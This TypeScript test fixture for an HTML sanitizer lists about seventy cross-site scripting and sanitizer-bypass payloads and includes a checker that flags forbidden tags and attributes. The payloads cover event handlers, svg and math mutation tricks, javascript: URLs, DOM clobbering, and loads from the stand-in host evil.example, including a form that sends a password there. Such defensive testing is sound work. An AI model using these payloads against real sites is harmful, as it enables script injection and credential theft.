/**
 * Bodies that would be harmful if they were inserted unchanged; `evil` marks addresses that must never be
 * requested without the player.
 */
export const hostileBodies: readonly string[] = [
  "<script>pwned = 1</script>",
  "<script src=https://evil.example/x.js></script>",
  "<scr<script>ipt>pwned = 1</scr</script>ipt>",
  "<img src=x onerror=pwned=1>",
  "<img src=https://evil.example/x.png>",
  "<img srcset='https://evil.example/x.png 1x'>",
  "<img src='data:image/svg+xml,<svg onload=pwned=1>'>",
  "<svg onload=pwned=1>",
  "<svg><script>pwned=1</script></svg>",
  "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:pwned=1></svg>",
  "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
  "<svg><image href='https://evil.example/x.png'></image></svg>",
  "<svg><path fill='url(https://evil.example/x.svg#a)' d='M0 0h9v9z'></path></svg>",
  "<svg><path fill='u\\72l(https://evil.example/x.svg#a)' d='M0 0h9v9z'></path></svg>",
  "<svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg>",
  "<svg><style><img src=x onerror=pwned=1></style></svg>",
  "<svg><a xlink:href='javascript:pwned=1'><text>go</text></a></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=pwned=1>'>",
  "<svg><p><style><img src='</style><img src=x onerror=pwned=1//'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned=1&gt;'>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=pwned=1></annotation-xml></math>",
  "<math href='javascript:pwned=1'>go</math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1></style></mglyph></form>",
  "<noscript><p title='</noscript><img src=x onerror=pwned=1>'></noscript>",
  "<template><img src=x onerror=pwned=1></template>",
  "<textarea><img title='</textarea><img src=x onerror=pwned=1>'></textarea>",
  "<title><img title='</title><img src=x onerror=pwned=1>'></title>",
  "<xmp><img title='</xmp><img src=x onerror=pwned=1>'></xmp>",
  "<noembed><img title='</noembed><img src=x onerror=pwned=1>'></noembed>",
  "<plaintext><img src=x onerror=pwned=1>",
  "<!--><img src=x onerror=pwned=1>-->",
  "<![CDATA[<img src=x onerror=pwned=1>]]>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  "<frameset><frame src=https://evil.example></frameset>",
  "<object data=https://evil.example/x.swf></object>",
  "<embed src=https://evil.example/x.swf>",
  "<applet code=x></applet>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<style>#coupon { display: none }</style>",
  "<div style='position:fixed;inset:0;z-index:9999;background:url(https://evil.example/x.png)'>over</div>",
  "<a href='javascript:pwned=1'>go</a>",
  "<a href=' \u0001jAvA\tscript:pwned=1'>go</a>",
  "<a href='&#106;avascript&colon;pwned=1'>go</a>",
  "<a href='data:text/html,<script>pwned=1</script>'>go</a>",
  "<a href='vbscript:pwned=1'>go</a>",
  "<a href='https://own.example@evil.example/'>go</a>",
  "<a href='/\\evil.example'>go</a>",
  "<a href='/en' ping='https://evil.example' target=opener>go</a>",
  "<form action=https://evil.example><input name=password type=password><button formaction=https://evil.example>go</button></form>",
  "<input autofocus onfocus=pwned=1>",
  "<select autofocus onfocus=pwned=1><option>one</select>",
  "<details open ontoggle=pwned=1><summary>more</summary></details>",
  "<video autoplay onplay=pwned=1><source onerror=pwned=1 src=https://evil.example/x.mp4></video>",
  "<audio src=https://evil.example/x.mp3 onerror=pwned=1>",
  "<marquee onstart=pwned=1>run</marquee>",
  "<body onload=pwned=1>",
  "<p id=sections></p><p id=told></p><p id=coupon></p>",
  "<a id=config><a id=config name=url href='https://evil.example'>",
  "<img name=cookie><img name=body><img name=getElementById><img id=attributes>",
  "<form id=document><input name=cookie></form>",
  "<button popovertarget=coupon popovertargetaction=show command=show-modal commandfor=coupon>go</button>",
  "<div popover=auto data-section-root=promo is=own-thing slot=x part=y nonce=z>x</div>",
  "<dialog open>over</dialog>",
  "<p tabindex=1 accesskey=a contenteditable autofocus draggable=true>x</p>",
  "<custom-thing onclick=pwned=1><b onclick=pwned=1>x</b></custom-thing>",
];

const tags =
  "a abbr address article aside b bdi bdo blockquote br button caption cite code col colgroup dd del details dfn div dl dt " +
  "em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd label li main mark meter nav ol output p " +
  "picture pre progress q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time " +
  "tr u ul var wbr svg g path circle ellipse line polygon polyline rect";

/** Forbidden things that are left in a root; it is self-contained because it also runs in a page. */
export function harmIn(root: ParentNode, known: string): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    const found = known.split(" ").includes(element.localName) ? [] : [element.localName];
    for (const { name, value } of element.attributes) {
      const isBad =
        /^(on|data-|form|popover|command|xlink|is$|slot$|part$|nonce$|name$|style$|srcset$|srcdoc$|ping$|target$|action$)/.test(
          name,
        ) ||
        (name === "id" && !value.startsWith("s-")) ||
        (name === "tabindex" && value === "1") ||
        (name === "href" && !/^(https?:\/\/[^@\\]+$|#|mailto:|tel:)/.test(value)) ||
        (name === "src" &&
          !/^(https:\/\/own\.example\/|data:image\/(png|jpeg|gif|webp|avif);)/.test(value)) ||
        /url\s*\(|javascript:|\\/i.test(value);
      if (isBad) found.push(`${element.localName}[${name}=${value}]`);
    }
    return found;
  });
}
export const knownTags = tags;
